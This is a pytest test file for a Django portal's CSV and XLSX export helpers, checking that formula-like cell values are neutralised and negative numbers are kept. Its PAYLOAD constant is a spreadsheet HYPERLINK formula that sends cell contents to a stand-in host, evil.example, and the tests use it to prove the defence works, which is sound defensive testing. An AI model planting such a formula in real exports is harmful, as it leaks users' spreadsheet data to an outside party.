"""The shared export helpers: streamed, constant memory, and no cell a spreadsheet runs."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ccr_portal.exports import Column, csv_response, neutralise, xlsx_response
from tests.conftest import downloaded
from tests.factories import CampaignFactory, DossierFactory, StructureFactory, UserFactory

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Cliquez ici")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+33 4 91 00 00 00", "'+33 4 91 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Épicerie = Panier", "Épicerie = Panier"),
        ("", ""),
        (Decimal("-1250.50"), Decimal("-1250.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_text_that_a_spreadsheet_would_evaluate_is_neutralised(value, expected):
    assert neutralise(value) == expected


COLUMNS = [
    Column("Nom", lambda row: row["name"]),
    Column("Solde (€)", lambda row: row["balance"], "euros"),
    Column("Écart", lambda row: row["gap"], "number"),
]
ROWS = [{"name": PAYLOAD, "balance": Decimal("-1250.50"), "gap": -3}]


def test_the_csv_neutralises_the_payload_and_keeps_negative_numbers():
    response = csv_response(filename="essai.csv", columns=COLUMNS, rows=iter(ROWS))
    assert response.streaming
    rows = list(csv.reader(io.StringIO(downloaded(response).decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Nom", "Solde (€)", "Écart"], ["'" + PAYLOAD, "-1250,50", "-3"]]


def test_the_xlsx_stores_the_payload_as_text_and_negative_numbers_as_numbers():
    response = xlsx_response(filename="essai.xlsx", columns=COLUMNS, rows=iter(ROWS), title="Essai")
    sheet = load_workbook(io.BytesIO(downloaded(response))).active
    name, balance, gap = sheet[2]
    assert name.value == "'" + PAYLOAD
    assert name.data_type == "s"  # a string, not a formula ("f")
    assert balance.value == -1250.5
    assert balance.data_type == "n"
    assert balance.number_format == '#,##0.00 "€"'
    assert gap.value == -3
    assert gap.data_type == "n"


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_dossier_export_neutralises_a_structure_named_like_a_formula(client, file_format):
    campaign = CampaignFactory()
    DossierFactory(campaign=campaign, structure=StructureFactory(name=PAYLOAD), status="submitted")
    client.force_login(UserFactory(coordinator=True))

    response = client.get(reverse("applicants:dossier-export", args=[file_format]))

    assert response["Cache-Control"] == "private, no-store"
    body = downloaded(response)
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
        assert rows[1][0] == "'" + PAYLOAD
    else:
        cell = load_workbook(io.BytesIO(body)).active["A2"]
        assert (cell.value, cell.data_type) == ("'" + PAYLOAD, "s")
